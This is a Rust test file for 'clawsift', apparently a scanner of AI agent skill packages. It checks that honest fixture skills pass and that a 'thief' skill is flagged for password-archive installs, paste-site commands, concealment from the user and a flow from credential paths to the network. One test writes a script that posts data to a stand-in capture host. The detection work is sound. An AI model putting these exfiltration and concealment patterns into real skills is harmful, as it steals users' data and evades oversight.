//! The demonstration skills: the honest ones pass, the thief is named with what proves it.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

use std::fs;
use std::path::Path;

use assert_cmd::cargo::cargo_bin_cmd;
use serde_json::Value;
use tempfile::TempDir;

/// The demonstration skills in a repository of their own.
fn repository() -> TempDir {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/skills");
    let copy = tempfile::tempdir().unwrap();
    fs::create_dir(copy.path().join(".git")).unwrap();
    for entry in walkdir::WalkDir::new(&root) {
        let entry = entry.unwrap();
        let to = copy.path().join("skills").join(entry.path().strip_prefix(&root).unwrap());
        if entry.file_type().is_dir() { fs::create_dir_all(to).unwrap() } else { drop(fs::copy(entry.path(), to)) }
    }
    copy
}

fn check(dir: &Path, arguments: &[&str]) -> (i32, String) {
    let mut command = cargo_bin_cmd!("clawsift");
    let out = command.current_dir(dir).arg("check").args(arguments).output().unwrap();
    (out.status.code().unwrap(), String::from_utf8(out.stdout).unwrap())
}

fn report(dir: &Path, arguments: &[&str]) -> Value {
    let (_, text) = check(dir, &[arguments, &["--format", "json"]].concat());
    serde_json::from_str(&text).unwrap()
}

fn skill<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["skills"].as_array().unwrap().iter().find(|skill| skill["name"] == name).unwrap()
}

#[test]
fn honest_skills_pass_and_the_thief_does_not() {
    let dir = repository();
    let all = report(dir.path(), &[]);
    for honest in ["ledger-notes", "release-notes"] {
        assert!(["clean", "info"].contains(&skill(&all, honest)["verdict"].as_str().unwrap()), "{honest}");
    }
    assert_eq!(skill(&all, "sheet-sync")["verdict"], "critical");
    let critical: Vec<&str> = all["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["severity"] == "critical")
        .map(|finding| finding["checkId"].as_str().unwrap())
        .collect();
    for id in [
        "skills.install.password_archive",
        "skills.install.paste_site_command",
        "skills.prompt.conceal_from_user",
        "skills.flow.cred_path_to_net",
    ] {
        assert!(critical.contains(&id), "{id} is not among {critical:?}");
    }
    let (code, _) = check(dir.path(), &["skills/ledger-notes"]);
    assert_eq!(code, 0);
    let (code, text) = check(dir.path(), &[]);
    assert_eq!(code, 1);
    assert!(text.contains("skill skills/sheet-sync: critical ("), "{text}");
}

#[test]
fn a_skill_is_described_in_the_report() {
    let dir = repository();
    let all = report(dir.path(), &[]);
    let thief = skill(&all, "sheet-sync");
    assert_eq!(thief["files"], serde_json::json!(["SKILL.md", "scripts/push.py"]));
    let commands: Vec<&Value> =
        all["skills"].as_array().unwrap().iter().flat_map(|one| one["commands"].as_array().unwrap()).collect();
    assert!(commands.iter().any(|name| *name == "curl"), "{commands:?}");
    assert!(thief["treeDigest"].as_str().unwrap().starts_with("sha256:"));
    assert!(skill(&all, "release-notes")["hosts"].as_array().unwrap().contains(&"api.github.com".into()));
}

#[test]
fn a_flow_is_shown_step_by_step() {
    let dir = repository();
    let (_, text) = check(dir.path(), &["--format", "sarif"]);
    let sarif: Value = serde_json::from_str(&text).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let flow = results.iter().find(|result| result["ruleId"] == "skills.flow.cred_path_to_net").unwrap();
    let steps = flow["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap();
    assert!(steps.len() >= 2, "{steps:#?}");
    let lines: Vec<i64> = steps
        .iter()
        .map(|step| step["location"]["physicalLocation"]["region"]["startLine"].as_i64().unwrap())
        .collect();
    assert_eq!((lines.first(), lines.last()), (Some(&8), Some(&10)));
    assert!(
        flow["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("SKILL.md")
    );
}

#[test]
fn a_review_lasts_until_a_file_changes() {
    let dir = repository();
    let digest = skill(&report(dir.path(), &[]), "sheet-sync")["treeDigest"].as_str().unwrap().to_owned();
    let settings = format!(
        "{{ reviewedSkills: [{{ skill: 'skills/sheet-sync', digest: '{digest}', reason: 'kept as an example' }}] }}"
    );
    fs::write(dir.path().join("clawsift.json5"), settings).unwrap();
    let reviewed = report(dir.path(), &[]);
    assert_eq!(skill(&reviewed, "sheet-sync")["verdict"], "clean");
    assert!(reviewed["summary"]["suppressed"].as_u64().unwrap() >= 4);
    assert_eq!(reviewed["exitCode"], 0);
    fs::write(dir.path().join("skills/sheet-sync/notes.txt"), "More.\n").unwrap();
    let changed = report(dir.path(), &[]);
    assert_eq!(changed["exitCode"], 1);
    let ids: Vec<&str> =
        changed["findings"].as_array().unwrap().iter().map(|one| one["checkId"].as_str().unwrap()).collect();
    assert!(ids.contains(&"skills.review_lapsed"), "{ids:?}");
}

#[test]
fn the_operator_adds_to_the_tables() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir_all(dir.path().join("skills/x")).unwrap();
    fs::create_dir(dir.path().join(".git")).unwrap();
    let text = "---\nname: x\ndescription: Posts\n---\n\nRun `post.py`; it posts to drop.corp-net.dev.\n";
    fs::write(dir.path().join("skills/x/SKILL.md"), text).unwrap();
    let script = "import requests\nrequests.post('https://drop.corp-net.dev/x', data={'a': 1})\n";
    fs::write(dir.path().join("skills/x/post.py"), script).unwrap();
    assert_eq!(report(dir.path(), &[])["summary"]["critical"], 0);
    fs::write(dir.path().join("clawsift.json5"), "{ tables: { capture: ['.corp-net.dev'] } }").unwrap();
    assert_eq!(report(dir.path(), &[])["findings"][0]["checkId"], "skills.exfil.capture_endpoint");
}

#[test]
fn a_name_that_the_operator_vouches_for_imitates_nobody() {
    let dir = tempfile::tempdir().unwrap();
    fs::create_dir_all(dir.path().join("skills/x")).unwrap();
    fs::create_dir(dir.path().join(".git")).unwrap();
    let text = "---\nname: official-weather\ndescription: Tells the weather\n---\n\nTell it.\n";
    fs::write(dir.path().join("skills/x/SKILL.md"), text).unwrap();
    let arguments = ["--select", "skills.meta.name_typosquat"];
    assert_eq!(report(dir.path(), &arguments)["findings"].as_array().unwrap().len(), 1);
    fs::write(dir.path().join("clawsift.json5"), "{ tables: { skillNames: ['official-weather'] } }").unwrap();
    assert_eq!(report(dir.path(), &arguments)["findings"].as_array().unwrap().len(), 0);
}

#[test]
fn roots_that_overlap_are_counted_once() {
    let dir = repository();
    for path in ["node_modules/x/a.js", "tests/openclaw.json", "tests/skills/s/SKILL.md"] {
        let path = dir.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, if path.ends_with("SKILL.md") { "---\nname: s\ndescription: x\n---\n" } else { "{}" })
            .unwrap();
    }
    let notes = |roots: &[&str]| {
        let report = report(dir.path(), roots);
        let notes = report["diagnostics"].as_array().unwrap().iter();
        let notes = notes.filter_map(|one| one["message"].as_str()).filter(|text| text.contains("name them"));
        notes.map(|text| text.split(';').next().unwrap().to_owned()).collect::<Vec<_>>()
    };
    let alone = notes(&["."]);
    assert_eq!(alone.len(), 3, "{alone:?}");
    assert!(alone.iter().all(|text| text.starts_with("1 ")), "{alone:?}");
    assert_eq!(notes(&[".", "skills", "."]), alone);
    // What is named is not passed over.
    assert_eq!(notes(&[".", "node_modules"]).len(), 2);
    assert_eq!(notes(&[".", "tests/openclaw.json"]).len(), 2);
}
